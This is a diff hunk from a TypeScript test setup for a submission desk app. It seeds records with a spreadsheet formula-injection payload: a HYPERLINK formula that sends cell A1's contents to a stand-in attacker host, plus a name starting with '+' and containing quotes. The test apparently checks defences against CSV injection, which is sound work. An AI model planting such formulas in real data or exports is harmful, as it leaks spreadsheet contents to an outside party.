@@ -7,10 +7,11 @@ let w: World;
 let desk: DeskClient;
 const trap = '=HYPERLINK("https://jahat.example?x="&A1,"klik")';
 beforeAll(async () => {
-  w = await startWorld();
+  w = await startWorld({ prints: false });
   desk = deskOf(w);
   await desk.signIn();
   await w.submit(submission({ application: { type: 'aplikasi', name: trap, summary: 'x' } }));
+  w.world.now = new Date(w.world.now.getTime() + 1000);
   await w.submit(submission({ agency: { ...submission().agency, name: '+62 Dinas, "Kutip"' } }));
 });
 afterAll(() => w.stop());
